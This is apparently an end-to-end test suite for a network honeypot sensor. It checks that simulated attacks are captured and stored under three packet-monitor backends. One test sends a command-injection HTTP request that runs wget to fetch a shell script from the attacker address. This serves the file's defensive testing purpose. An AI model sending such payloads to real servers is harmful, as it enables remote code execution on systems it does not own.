import { createHash } from 'node:crypto'
import { cpSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { shippedTemplatesDir } from '../../src/config/paths.js'
import type { NetnsPair } from '../../src/netns/netns-pair.js'
import { runAttackPlan } from '../../src/netns/sensor-process.js'
import { eventually, isRoot, listening, readRows, waitFor } from '../helpers/netns-env.js'
import { startSensorFixture, type SensorFixture } from '../helpers/sensor-fixture.js'

interface Row {
  id: string
  protocol: string
  family: number
  src_ip: string
  src_port: number
  dst_ip: string
  dst_port: number
  mode: string
  close_reason: string
  bytes_received: number
  bytes_sent: number
  truncated: number
  payload: Buffer
  md5: string
  sha256: string
  sha512: string
  started_at: number
  ended_at: number
}

const digest = (algo: string, data: Buffer): string => createHash(algo).update(data).digest('hex')

function rowsForPort(dbPath: string, port: number): Row[] {
  return readRows<Row>(dbPath, 'SELECT * FROM attacks WHERE dst_port = ? ORDER BY id', port)
}


/**
 * What differs between the monitors, and only that: the suite below is the same for each.
 * - nfqueue holds each new SYN until its port is bound, so the very first attempt is served;
 * - ebpf steers every port into one socket: the first attempt is served and no per-port TCP listener exists;
 * - pcap only observes: the kernel refuses the first attempt at a new port before its listener exists, so each test
 *   first "primes" the ports it uses with an attempt that is lost, as an attacker's retry would find them.
 */
interface MonitorCase {
  readonly config: string
  readonly firstAttemptServed: boolean
  readonly tcpListenerPerPort: boolean
}

const MONITORS: Readonly<Record<'nfqueue' | 'ebpf' | 'pcap', MonitorCase>> = {
  nfqueue: { config: 'monitor: { type: nfqueue }', firstAttemptServed: true, tcpListenerPerPort: true },
  ebpf: { config: 'monitor: { type: ebpf, ebpf: { serviceScanMs: 200 } }', firstAttemptServed: true, tcpListenerPerPort: false },
  pcap: { config: 'monitor: { type: pcap }', firstAttemptServed: false, tcpListenerPerPort: true },
}

describe.skipIf(!isRoot).each(Object.entries(MONITORS))('sensor in a network namespace, monitor %s (real sensor, real clients)', (monitor, caps) => {
  let fx: SensorFixture
  let pair: NetnsPair
  let dbPath: string
  let templatesDir: string

  /** pcap only: a first attempt at each port, lost by design, then waits until the sensor listens there. */
  async function prime(proto: 'tcp' | 'udp', host: string, ports: readonly number[]): Promise<void> {
    if (caps.firstAttemptServed) return
    const plan = ports.map((port) => (proto === 'tcp' ? { type: 'tcp', host, port, waitMs: 300 } : { type: 'udp', host, port, sendBase64: Buffer.from('prime').toString('base64'), count: 1, waitMs: 100 }))
    await runAttackPlan(pair, plan)
    for (const port of ports) expect(await eventually(() => listening(pair, proto, port), 5_000)).toBe(true)
  }

  beforeAll(async () => {
    fx = await startSensorFixture({
      label: `e2e-${monitor}`,
      logLevel: 'debug',
      prepare: (dir) => {
        templatesDir = join(dir, 'templates')
        cpSync(shippedTemplatesDir(), templatesDir, { recursive: true })
      },
      configYaml: () => [
        caps.config,
        `responder: { idleTimeoutMs: 1500, templatesDir: ${JSON.stringify(templatesDir)} }`,
        'listeners: { idleLifetimeMs: 2000 }',
        'udp: { sessionIdleMs: 800 }',
        'store: { batchWindowMs: 100 }',
        'rules: { exclude: ["7001/tcp"] }',
        'ports: { rules: [ { ports: "7000/tcp", mode: ignore } ] }',
        'plugins: { enabled: false }',
        '',
      ].join('\n'),
    })
    pair = fx.pair
    dbPath = fx.dbPath
  })

  afterAll(() => fx?.teardown())

  it('answers the first served SYN to a never-used port and stores the attack string with addresses, hashes and SYN facts', async () => {
    expect(await listening(pair, 'tcp', 80)).toBe(false)
    await prime('tcp', pair.sensorV4, [80])
    const request = `GET /shell?cd+/tmp;wget+http://${pair.attackerV4}/x.sh HTTP/1.1\r\nHost: ${pair.sensorV4}\r\n\r\n`
    const [result] = await runAttackPlan(pair, [{ type: 'tcp', host: pair.sensorV4, port: 80, send: request, halfClose: true, waitMs: 3_000 }])
    expect(result?.['connected']).toBe(true)
    expect(Buffer.from(String(result?.['received']), 'base64').toString('latin1')).toMatch(/^HTTP\/1\.1 200 OK\r\n/)
    // NFQUEUE and pcap bind the port; the eBPF monitor serves it from its one socket.
    expect(await listening(pair, 'tcp', 80)).toBe(caps.tcpListenerPerPort)

    const rows = await waitFor(() => rowsForPort(dbPath, 80), (r) => r.length === 1, 5_000)
    expect(rows).toHaveLength(1)
    const row = rows[0]!
    const sent = Buffer.from(request, 'latin1')
    expect(row).toMatchObject({ protocol: 'tcp', family: 4, src_ip: pair.attackerV4, dst_ip: pair.sensorV4, dst_port: 80, mode: 'normal', truncated: 0 })
    // The opening SYN's header facts, as Linux's client stack sent them over a 1500-byte link: the same facts
    // whichever monitor saw the packet (the queue, the XDP program, the capture).
    expect(JSON.parse(readRows<{ syn_facts: string }>(dbPath, 'SELECT syn_facts FROM attacks WHERE id = ?', row.id)[0]!.syn_facts)).toMatchObject({
      ttl: 64,
      dontFragment: true,
      tcpFlags: 0x02,
      tcpOptions: [2, 4, 8, 1, 3],
      mss: 1460,
      windowScale: expect.any(Number),
      tcpWindow: expect.any(Number),
      ipId: expect.any(Number),
    })
    expect(row.payload.equals(sent)).toBe(true)
    expect(row.bytes_received).toBe(sent.length)
    expect(row.bytes_sent).toBeGreaterThan(0)
    expect(row.md5).toBe(digest('md5', sent))
    expect(row.sha256).toBe(digest('sha256', sent))
    expect(row.sha512).toBe(digest('sha512', sent))
    expect(row.ended_at).toBeGreaterThanOrEqual(row.started_at)
  })

  it('serves UDP: one session per peer, template reply, destination address from the monitor', async () => {
    await prime('udp', pair.sensorV4, [5060])
    const probe = Buffer.from(`OPTIONS sip:100@${pair.sensorV4} SIP/2.0\r\nVia: SIP/2.0/UDP ${pair.attackerV4}\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n`)
    const [result] = await runAttackPlan(pair, [{ type: 'udp', host: pair.sensorV4, port: 5060, sendBase64: probe.toString('base64'), count: 2, waitMs: 1_000 }])
    const replies = result?.['replies'] as string[]
    expect(replies.length).toBeGreaterThanOrEqual(1)
    expect(Buffer.from(replies[0]!, 'base64').toString('latin1')).toMatch(/^SIP\/2\.0 200 OK\r\n/)
    const rows = await waitFor(() => rowsForPort(dbPath, 5060).filter((r) => r.payload.length > 5), (r) => r.length >= 1, 5_000)
    expect(rows).toHaveLength(1) // two datagrams, one session
    expect(rows[0]).toMatchObject({ protocol: 'udp', src_ip: pair.attackerV4, dst_ip: pair.sensorV4, close_reason: 'idle-timeout' })
    expect(rows[0]!.payload.equals(Buffer.concat([probe, probe]))).toBe(true)
  })

  it('serves IPv6 on the same path', async () => {
    await prime('tcp', pair.sensorV6, [21])
    const [result] = await runAttackPlan(pair, [{ type: 'tcp', host: pair.sensorV6, port: 21, send: 'USER root\r\n', halfClose: true, waitMs: 3_000 }])
    expect(result?.['connected']).toBe(true)
    expect(Buffer.from(String(result?.['received']), 'base64').toString('latin1')).toMatch(/^220[ -]/)
    const rows = await waitFor(() => rowsForPort(dbPath, 21), (r) => r.length === 1, 5_000)
    expect(rows[0]).toMatchObject({ family: 6, src_ip: pair.attackerV6, dst_ip: pair.sensorV6, payload: Buffer.from('USER root\r\n') })
  })

  it('leaves ignore-mode and excluded ports alone', async () => {
    const results = await runAttackPlan(pair, [
      { type: 'tcp', host: pair.sensorV4, port: 7000, send: 'x', waitMs: 2_000 },
      { type: 'tcp', host: pair.sensorV4, port: 7001, send: 'x', waitMs: 2_000 },
      { type: 'tcp', host: pair.sensorV4, port: 22, send: 'x', waitMs: 2_000 },
    ])
    for (const r of results) expect(r).toMatchObject({ connected: false, error: 'ECONNREFUSED' })
    // A second round: for pcap, a port that had been seen would have its listener by now.
    const again = await runAttackPlan(pair, [{ type: 'tcp', host: pair.sensorV4, port: 7000, send: 'x', waitMs: 1_000 }])
    expect(again[0]).toMatchObject({ connected: false, error: 'ECONNREFUSED' })
    await new Promise((r) => setTimeout(r, 500))
    expect(rowsForPort(dbPath, 7000)).toHaveLength(0)
    expect(rowsForPort(dbPath, 7001)).toHaveLength(0)
    expect(await listening(pair, 'tcp', 7000)).toBe(false)
  })

  it('leaves a port owned by a real service to that service', async () => {
    const server = pair.spawn(pair.sensorNs, process.execPath, [
      '-e',
      "require('net').createServer((s) => { s.end('REAL SERVICE\\n') }).listen(8081, () => console.log('up'))",
    ], { stdio: ['ignore', 'pipe', 'inherit'] })
    try {
      await new Promise<void>((resolve) => server.stdout?.once('data', () => resolve()))
      // The eBPF monitor learns of a new service at its next read of the host's ports (every 200 ms here).
      if (monitor === 'ebpf') await new Promise((r) => setTimeout(r, 600))
      for (let round = 0; round < 2; round++) {
        const [result] = await runAttackPlan(pair, [{ type: 'tcp', host: pair.sensorV4, port: 8081, waitMs: 2_000 }])
        expect(Buffer.from(String(result?.['received']), 'base64').toString()).toBe('REAL SERVICE\n')
      }
      await new Promise((r) => setTimeout(r, 500))
      expect(rowsForPort(dbPath, 8081)).toHaveLength(0)
    } finally {
      if (server.pid !== undefined) process.kill(server.pid, 'SIGKILL')
    }
  })

  it('closes an idle listener after its lifetime, and serves the port again afterwards', async () => {
    // TCP has per-port listeners under nfqueue and pcap; under ebpf only UDP ports get their own sockets.
    const proto = caps.tcpListenerPerPort ? 'tcp' : 'udp'
    const attempt = proto === 'tcp' ? { type: 'tcp', host: pair.sensorV4, port: 9001, halfClose: true, waitMs: 1_000 } : { type: 'udp', host: pair.sensorV4, port: 9001, sendBase64: Buffer.from('ping').toString('base64'), count: 1, waitMs: 300 }
    await prime(proto, pair.sensorV4, [9001])
    await runAttackPlan(pair, [attempt])
    expect(await eventually(() => listening(pair, proto, 9001), 3_000)).toBe(true)
    // idleLifetimeMs is 2 s here and the sweep runs every 500 ms.
    expect(await eventually(async () => !(await listening(pair, proto, 9001)), 6_000)).toBe(true)
    // ...and the next attempt is served again (pcap: its retry, the port's first attempt being seen again).
    const before = rowsForPort(dbPath, 9001).length
    await prime(proto, pair.sensorV4, [9001])
    await runAttackPlan(pair, [attempt])
    expect((await waitFor(() => rowsForPort(dbPath, 9001), (r) => r.length > before, 5_000)).length).toBeGreaterThan(before)
  })

  it('serves a template dropped into the directory while running, within 2 s', async () => {
    await prime('tcp', pair.sensorV4, [9100])
    writeFileSync(join(templatesDir, '9100_tcp'), 'HELLO FROM A NEW TEMPLATE\r\n')
    const dropped = Date.now()
    let reply = ''
    while (!reply.startsWith('HELLO') && Date.now() - dropped < 5_000) {
      const [r] = await runAttackPlan(pair, [{ type: 'tcp', host: pair.sensorV4, port: 9100, send: 'hi\r\n', waitMs: 400 }])
      reply = Buffer.from(String(r?.['received']), 'base64').toString()
    }
    expect(reply).toBe('HELLO FROM A NEW TEMPLATE\r\n')
    expect(Date.now() - dropped).toBeLessThan(2_000 + 1_500) // 2 s to pick up, plus the clients' own start-up time
  })

  it('records connections that send nothing (scans are data)', async () => {
    const scan = { type: 'scan', host: pair.sensorV4, from: 12_000, to: 12_049, concurrency: 10, timeoutMs: 2_000, deadlineMs: 20_000 }
    // pcap: the first scan is what an attacker's first sweep is, lost; its second sweep is served.
    if (!caps.firstAttemptServed) {
      await runAttackPlan(pair, [scan])
      expect(await eventually(() => listening(pair, 'tcp', 12_049), 5_000)).toBe(true)
    }
    await runAttackPlan(pair, [scan])
    const rows = await waitFor(
      () => readRows<Row>(dbPath, 'SELECT * FROM attacks WHERE dst_port BETWEEN 12000 AND 12049'),
      (r) => r.length === 50,
      5_000,
    )
    expect(rows).toHaveLength(50)
    for (const row of rows) expect(row.bytes_received).toBe(0)
  })
})
